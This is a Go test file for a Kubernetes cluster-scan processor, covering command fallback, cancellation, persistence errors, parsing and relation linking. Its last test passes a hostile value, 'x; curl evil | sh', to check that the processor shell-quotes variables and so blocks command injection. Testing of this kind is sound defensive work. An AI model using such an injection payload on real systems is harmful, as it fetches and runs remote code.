package cluster

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kyoulho/p-roro-sub011/internal/domain/scans"
)

type fakeStore struct {
	mu      sync.Mutex
	origins map[string][]string
	objects []Object
	links   []string
	failObj bool
}

func newFakeStore() *fakeStore {
	return &fakeStore{origins: map[string][]string{}}
}

func (s *fakeStore) SaveOrigin(_ context.Context, _ scans.RequestID, op, raw string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.origins[op] = append(s.origins[op], raw)
	return nil
}

func (s *fakeStore) SaveObject(_ context.Context, _ scans.RequestID, obj Object) (int64, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.failObj {
		return 0, errors.New("disk full")
	}
	obj.ID = int64(len(s.objects) + 1)
	s.objects = append(s.objects, obj)
	return obj.ID, nil
}

func (s *fakeStore) FindObject(_ context.Context, _ scans.RequestID, kind, ns, name string) (int64, bool, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, o := range s.objects {
		if o.Kind == kind && o.Namespace == ns && o.Name == name {
			return o.ID, true, nil
		}
	}
	return 0, false, nil
}

func (s *fakeStore) Link(_ context.Context, _ scans.RequestID, parent, child int64, rel string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.links = append(s.links, fmt.Sprintf("%d->%d:%s", parent, child, rel))
	return nil
}

// scriptExec returns canned output per command.
type scriptExec struct {
	out    map[string]string
	calls  []string
	cancel context.CancelFunc
	after  int
}

func (e *scriptExec) Exec(_ context.Context, cmd string) (string, error) {
	e.calls = append(e.calls, cmd)
	if e.cancel != nil && len(e.calls) >= e.after {
		e.cancel()
		return "", fmt.Errorf("exec: %w", context.Canceled)
	}
	out, ok := e.out[cmd]
	if !ok {
		return "", &scans.ExitError{Command: cmd, ExitCode: 127}
	}
	return out, nil
}

type countingHandler struct {
	inner Handler
	saves []Document
}

func (h *countingHandler) Save(ctx context.Context, id scans.RequestID, doc Document) ([]Object, error) {
	h.saves = append(h.saves, doc)
	return h.inner.Save(ctx, id, doc)
}

func (h *countingHandler) SetRelation(ctx context.Context, id scans.RequestID, saved []Object) (LinkStats, error) {
	return h.inner.SetRelation(ctx, id, saved)
}

const nsList = `{"kind":"List","items":[{"metadata":{"name":"default"}},{"metadata":{"name":"prod"}}]}`

func TestAlternativeCommandFallback(t *testing.T) {
	store := newFakeStore()
	h := &countingHandler{inner: Handlers(store, nil)["namespace"]}
	p := &Processor{
		Parsers:  Parsers(),
		Handlers: map[string]Handler{"namespace": h},
		Store:    store,
	}
	exec := &scriptExec{out: map[string]string{
		"cmdA": "error: the server doesn't have a resource type",
		"cmdB": nsList,
	}}
	ops := []Operation{{Key: "namespace", Commands: []Command{
		{Command: "cmdA", Parser: "json", Handler: "namespace"},
		{Command: "cmdB", Parser: "json", Handler: "namespace"},
	}}}

	sum, err := p.Process(context.Background(), "scan-1", exec, nil, ops)
	if err != nil {
		t.Fatalf("Process: %v", err)
	}
	if len(h.saves) != 1 {
		t.Fatalf("handler invoked %d times, want 1", len(h.saves))
	}
	if len(Items(h.saves[0])) != 2 {
		t.Fatalf("handler got %v", h.saves[0])
	}
	raws := store.origins["namespace"]
	if len(raws) != 1 || raws[0] != nsList {
		t.Fatalf("persisted raw = %q", raws)
	}
	if sum.Operations[0].Command != "cmdB" || sum.Operations[0].Objects != 2 || sum.Failed != 0 {
		t.Fatalf("summary = %+v", sum)
	}
}

func TestFailedOperationDoesNotStopLaterOnes(t *testing.T) {
	store := newFakeStore()
	p := &Processor{Parsers: Parsers(), Handlers: Handlers(store, nil), Store: store}
	exec := &scriptExec{out: map[string]string{
		"get ns": nsList,
	}}
	ops := []Operation{
		{Key: "node", Commands: []Command{{Command: "get nodes", Parser: "json", Handler: "node"}}},
		{Key: "namespace", Commands: []Command{{Command: "get ns", Parser: "json", Handler: "namespace"}}},
	}
	sum, err := p.Process(context.Background(), "scan-1", exec, nil, ops)
	if err != nil {
		t.Fatalf("Process: %v", err)
	}
	if sum.Failed != 1 || sum.Operations[0].Error == "" || sum.Operations[1].Objects != 2 {
		t.Fatalf("summary = %+v", sum)
	}
}

func TestRelationsAndUnlinked(t *testing.T) {
	store := newFakeStore()
	var warned []string
	p := &Processor{
		Parsers:  Parsers(),
		Handlers: Handlers(store, func(msg string, _ Object, _ string) { warned = append(warned, msg) }),
		Store:    store,
	}
	pods := `{"items":[
		{"metadata":{"name":"web-1","namespace":"default"},"spec":{"nodeName":"node-a"}},
		{"metadata":{"name":"web-2","namespace":"ghost"},"spec":{"nodeName":"node-a"}}
	]}`
	nodes := `{"items":[{"metadata":{"name":"node-a"},"status":{"nodeInfo":{"kubeletVersion":"v1.29.1"}}}]}`
	exec := &scriptExec{out: map[string]string{
		"kubectl --kubeconfig /k get namespaces -o json":            nsList,
		"kubectl --kubeconfig /k get nodes -o json":                 nodes,
		"kubectl --kubeconfig /k get pods --all-namespaces -o json": pods,
	}}
	ops := DefaultOperations()[:3]

	sum, err := p.Process(context.Background(), "scan-1", exec, map[string]string{"KUBECONFIG": "/k"}, ops)
	if err != nil {
		t.Fatalf("Process: %v", err)
	}
	pod := sum.Operations[2]
	if pod.Key != "pod" || pod.Linked != 3 || pod.Unlinked != 1 {
		t.Fatalf("pod result = %+v", pod)
	}
	if len(warned) != 1 || !strings.Contains(warned[0], "ghost") {
		t.Fatalf("warnings = %v", warned)
	}
	var node Object
	for _, o := range store.objects {
		if o.Kind == "Node" {
			node = o
		}
	}
	if node.Attrs["kubeletVersion"] != "v1.29.1" {
		t.Fatalf("node = %+v", node)
	}
}

func TestCancellationAborts(t *testing.T) {
	store := newFakeStore()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	p := &Processor{Parsers: Parsers(), Handlers: Handlers(store, nil), Store: store}
	exec := &scriptExec{out: map[string]string{}, cancel: cancel, after: 1}
	ops := []Operation{
		{Key: "namespace", Commands: []Command{
			{Command: "a", Parser: "json", Handler: "namespace"},
			{Command: "b", Parser: "json", Handler: "namespace"},
		}},
		{Key: "node", Commands: []Command{{Command: "c", Parser: "json", Handler: "node"}}},
	}
	_, err := p.Process(ctx, "scan-1", exec, nil, ops)
	if !scans.IsCancellation(err) {
		t.Fatalf("err = %v, want cancellation", err)
	}
	if len(exec.calls) != 1 {
		t.Fatalf("calls after cancel: %v", exec.calls)
	}
}

func TestDeadlineIsFailureNotCancellation(t *testing.T) {
	store := newFakeStore()
	ctx, cancel := context.WithTimeout(context.Background(), time.Nanosecond)
	defer cancel()
	<-ctx.Done()
	p := &Processor{Parsers: Parsers(), Handlers: Handlers(store, nil), Store: store}
	exec := &scriptExec{out: map[string]string{}}
	ops := []Operation{{Key: "namespace", Commands: []Command{{Command: "a", Parser: "json", Handler: "namespace"}}}}

	_, err := p.Process(ctx, "scan-1", exec, nil, ops)
	if !errors.Is(err, context.DeadlineExceeded) || scans.IsCancellation(err) {
		t.Fatalf("err = %v, want deadline failure", err)
	}
	if len(exec.calls) != 0 {
		t.Fatalf("calls after deadline: %v", exec.calls)
	}
}

func TestPersistenceErrorSurfaces(t *testing.T) {
	store := newFakeStore()
	store.failObj = true
	p := &Processor{Parsers: Parsers(), Handlers: Handlers(store, nil), Store: store}
	exec := &scriptExec{out: map[string]string{"ns": nsList}}
	ops := []Operation{{Key: "namespace", Commands: []Command{{Command: "ns", Parser: "json", Handler: "namespace"}}}}

	_, err := p.Process(context.Background(), "scan-1", exec, nil, ops)
	var pe *scans.PersistenceError
	if !errors.As(err, &pe) {
		t.Fatalf("err = %v, want PersistenceError", err)
	}
}

func TestParsers(t *testing.T) {
	if _, err := ParseJSON("  "); !errors.Is(err, ErrEmptyDocument) {
		t.Fatalf("empty json err = %v", err)
	}
	if _, err := ParseJSON("No resources found"); err == nil {
		t.Fatal("expected json error")
	}
	doc, err := ParseYAML("metadata:\n  name: node-a\n")
	if err != nil {
		t.Fatal(err)
	}
	if items := Items(doc); len(items) != 1 || Lookup(items[0], "metadata", "name") != "node-a" {
		t.Fatalf("items = %v", items)
	}
}

func TestVariablesAreShellQuoted(t *testing.T) {
	tpl := "kubectl --kubeconfig ${KUBECONFIG} get namespaces -o json"
	tests := []struct {
		value string
		want  string
	}{
		{"/etc/k.conf", "kubectl --kubeconfig /etc/k.conf get namespaces -o json"},
		{"/home/ops/my cluster.conf", "kubectl --kubeconfig '/home/ops/my cluster.conf' get namespaces -o json"},
		{"x; curl evil | sh", "kubectl --kubeconfig 'x; curl evil | sh' get namespaces -o json"},
	}
	for _, tt := range tests {
		got := newReplacer(map[string]string{"KUBECONFIG": tt.value}).Replace(tpl)
		if got != tt.want {
			t.Fatalf("value %q: got %q, want %q", tt.value, got, tt.want)
		}
	}
}
